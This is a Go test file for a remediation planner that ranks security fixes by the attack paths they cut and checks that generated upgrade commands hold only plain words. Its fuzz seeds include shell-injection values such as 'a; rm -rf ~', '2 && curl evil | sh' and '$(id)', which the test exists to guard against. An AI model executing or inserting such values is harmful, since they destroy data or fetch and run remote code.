package plan_test

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/headgate/headgate/engine"
	"github.com/headgate/headgate/engine/paths"
	"github.com/headgate/headgate/engine/plan"
)

// doors is an estate of a few assets in a row behind the internet, with cases whose findings open their doors.
func doors(open map[string][]string) ([]engine.Case, *paths.Analysis) {
	e := paths.Estate{Edges: []engine.Edge{{From: "edge", To: "shop"}, {From: "shop", To: "db"}, {From: "side", To: "vault"}}}
	var cases []engine.Case
	for _, asset := range []string{"edge", "shop", "db", "side", "vault"} {
		a := paths.Asset{ID: asset, Entry: asset == "edge" || asset == "side", Jewel: asset == "db" || asset == "vault", Covered: true}
		for _, id := range open[asset] {
			a.Openers = append(a.Openers, paths.Opener{Finding: id})
			c := found(engine.KindWeakness, id, id+".go", "R", engine.Attend)
			c.Input.Asset.ID, c.Input.Context.Paths = asset, &engine.PathFacts{Opens: true, Status: "potential"}
			cases = append(cases, c)
		}
		e.Assets = append(e.Assets, a)
	}
	return cases, paths.Analyse(e)
}

func TestFixesThatCutPathsComeFirstAndAddUp(t *testing.T) {
	cases, analysis := doors(map[string][]string{"edge": {"e1", "e2"}, "shop": {"s"}, "db": {"d"}, "side": {"i"}, "vault": {"v"}})
	more := vulnerable("x", "pkg:npm/x", of("1.0.0"), of("1.0.1"), engine.Attend) // as urgent and less work, but cuts nothing
	cases = append(cases, more)
	fixes, _ := plan.New(cases, plan.Options{Paths: analysis})
	var have []string
	for _, f := range fixes {
		have = append(have, fmt.Sprintf("%s cuts %d %s, %d so far", strings.TrimSuffix(f.Name, ".go"), f.PathsCut, strings.Join(f.CutsOff, "+"), f.PathsCumulative))
	}
	want := []string{
		"d cuts 1 db, 1 so far", "i cuts 1 vault, 2 so far", // once the way is cut, what else would cut it comes by its cases alone
		"x cuts 0 , 2 so far",
		"e1 cuts 0 , 2 so far", "e2 cuts 0 , 2 so far", "s cuts 1 db, 2 so far", "v cuts 1 vault, 2 so far",
	}
	if !slices.Equal(have, want) {
		t.Errorf("have\n%s\nwant\n%s", strings.Join(have, "\n"), strings.Join(want, "\n"))
	}
}

func TestTwoFixesThatOnlyTogetherCutAPathAreToldSo(t *testing.T) {
	cases, analysis := doors(map[string][]string{"edge": {"e1", "e2"}, "shop": {"s1", "s2"}, "db": {"d1", "d2"}})
	fixes, _ := plan.New(cases, plan.Options{Paths: analysis})
	if f := fixes[0]; f.PathsCut != 0 || f.PathsCumulative != 0 {
		t.Errorf("the first alone cuts %d, %d", f.PathsCut, f.PathsCumulative)
	}
	// The second of the pair is worth more than all others once the first is made.
	if f := fixes[1]; f.PathsCut != 0 || f.PathsCumulative != 1 || f.Name[0] != fixes[0].Name[0] {
		t.Errorf("with %s %s cuts %d", fixes[0].Name, f.Name, f.PathsCumulative)
	}
}

func TestPathsSoFarAreThoseThatTheGraphSaysWithoutWhatIsFixed(t *testing.T) {
	r := rand.New(rand.NewPCG(7, 8))
	for range 200 {
		open := map[string][]string{}
		for _, asset := range []string{"edge", "shop", "db", "side", "vault"} {
			for i := range r.IntN(3) {
				open[asset] = append(open[asset], fmt.Sprintf("%s%d", asset, i))
			}
		}
		cases, analysis := doors(open)
		fixes, _ := plan.New(cases, plan.Options{Paths: analysis})
		last, all := 0, analysis.Graph().Paths
		var fixed []string
		for _, f := range fixes {
			fixed = append(fixed, f.Findings...)
			left := map[string][]string{}
			for asset, ids := range open {
				left[asset] = slices.DeleteFunc(slices.Clone(ids), func(id string) bool { return slices.Contains(fixed, id) })
			}
			_, after := doors(left)
			if gone := all - after.Graph().Paths; gone != f.PathsCumulative || f.PathsCumulative < last {
				t.Fatalf("after %v: %d are gone, the plan says %d", fixed, gone, f.PathsCumulative)
			}
			last = f.PathsCumulative
		}
		if last != all {
			t.Fatalf("%d of %d are left once all is fixed", all-last, all)
		}
	}
}

func TestAskFindsWhatIsMeantAndWhatItClears(t *testing.T) {
	cases := []engine.Case{
		vulnerable("1", "pkg:npm/%40acme/a", of("1.0.0"), of("1.0.2"), engine.Act), vulnerable("2", "pkg:npm/%40acme/a", of("1.0.0"), of("1.0.5"), engine.Act),
		found(engine.KindWeakness, "3", "a.go", "G1", engine.Act),
		inImage(vulnerable("4", "pkg:deb/debian/b", of("1-1"), of("1-2"), engine.Act), "ghcr.io/acme/b:1"),
	}
	fixes, _ := plan.New(cases, plan.Options{Repository: "acme/shop"})
	var code string
	for _, f := range fixes {
		if f.Fix == engine.FixCode {
			code = f.ID
		}
	}
	for ask, want := range map[string]string{
		"upgrade:pkg:npm/%40acme/a":       "1 2",
		"upgrade:pkg:npm/%40acme/a@1.0.2": "1", // less than all
		"upgrade:a@2.0.0":                 "1 2",
		"upgrade:a@1.0.1":                 "error",
		"upgrade:a@":                      "error",
		"upgrade:":                        "error",
		"code:a.go":                       "3",
		"upgrade:a.go":                    "error",
		code:                              "3",
		"code:" + code[:10]:               "3",
		"fix-":                            "error",
		"rebuild:ghcr.io/acme/b":          "4",
		"rebuild:ghcr.io/acme/b@1-2":      "error",
		"":                                "error",
		"fix":                             "error",
	} {
		var ids []string
		steps, err := plan.Ask(cases, fixes, "acme/shop", ask)
		for _, s := range steps {
			ids = append(ids, s.Findings...)
		}
		have := strings.Join(ids, " ")
		if err != nil {
			have = "error"
		}
		if have != want {
			t.Errorf("%q: have %s (%v), want %s", ask, have, err, want)
		}
	}
}

// options are those that commands have of their own.
var options = []string{"--save-dev", "-Dincludes", "-DdepVersion", "-m", "-p", "--precise", "--conservative", "--with", "--version", "--only-upgrade",
	"--upgrade", "--pull)", "-y", "--no-cache"}

// Whatever packages and versions are called, no command has more in it than words, and none begins with an option.
func FuzzCommandsAreWordsOnly(f *testing.F) {
	f.Add("pkg:npm/a", "a", "1.0.0", "1.0.1")
	f.Add("pkg:npm/%40scope/a%3B%20rm%20-rf", "a; rm -rf ~", "1", "2 && curl evil | sh")
	f.Add("pkg:golang/-flag", "$(id)", "v1", "v2`id`")
	f.Add("pkg:maven/g'/a\"", "-x", "1", "2\n3")
	f.Add("pkg:deb/debian/--force", "--force", "1-1", "1-2")
	f.Add("pkg:", "", "", "99999999999999999999.1")
	f.Fuzz(func(t *testing.T, purl, name, have, fixed string) {
		c := vulnerable("f", "pkg:npm/a", of("1.0.0"), nil, engine.Act)
		c.Input.Finding.Package = &engine.Package{PURL: purl, Ecosystem: "npm", Name: name, Versions: []string{have}, Fixed: []string{fixed, "1.2.3"}}
		image := c
		image.Input.Finding.ID = "g"
		image = inImage(image, "img:"+name)
		fixes, none := plan.New([]engine.Case{c, image}, plan.Options{})
		if len(fixes)+len(none) == 0 {
			t.Fatal("the cases are nowhere")
		}
		for _, f := range fixes {
			for _, h := range f.How {
				if strings.ContainsAny(h, "\n\r`$;|<>\\\"'*?!#{}[]") {
					t.Fatalf("%q", h)
				}
				for _, w := range strings.Fields(h)[1:] {
					if strings.HasPrefix(w, "-") && !slices.Contains(options, strings.SplitN(w, "=", 2)[0]) {
						t.Fatalf("an option: %q", h)
					}
				}
			}
		}
	})
}
